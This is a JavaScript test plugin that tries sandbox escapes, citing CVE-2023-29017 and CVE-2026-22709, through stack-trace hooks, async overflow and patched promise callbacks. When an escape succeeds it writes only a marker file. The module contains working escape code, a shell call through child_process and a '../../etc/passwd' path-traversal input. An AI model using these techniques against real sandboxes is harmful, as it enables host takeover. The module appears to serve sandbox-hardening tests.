// Escape attempt: CVE-2023-29017 and CVE-2026-22709: Promise.then/catch callbacks receiving host errors (async stack overflow, rejected host calls).
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-promise-then-host',
  description: 'sandbox escape attempt: promise-then-host',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    Error.prepareStackTrace = (e, frames) => { attempt(notes, "frames", () => pwn(frames.constructor.constructor("return process")(), marker, notes, "async frames")); return ""; };
    async function overflow() { (function r() { r(); })(); }
    await overflow().catch((e) => { attempt(notes, "overflow", () => pwn(e.constructor.constructor("return process")(), marker, notes, "async overflow")); });
    Error.prepareStackTrace = undefined;
    await Promise.resolve().then(() => { throw 1; }).catch((e) => { attempt(notes, "catch", () => pwn(e.constructor.constructor("return process")(), marker, notes, "catch arg")); });
    await ctx.logs("../../etc/passwd", 5).catch((e) => { attempt(notes, "ctx reject", () => pwn(e.constructor.constructor("return process")(), marker, notes, "ctx rejection")); });
    const orig = Promise.prototype.then;
    Promise.prototype.then = function (a, b) { attempt(notes, "patched then", () => pwn(this.constructor.constructor("return process")(), marker, notes, "patched then")); return orig.call(this, a, b); };
    await ctx.container();
    Promise.prototype.then = orig;
    return { summary: notes.join(' | '), data: notes };
  },
};
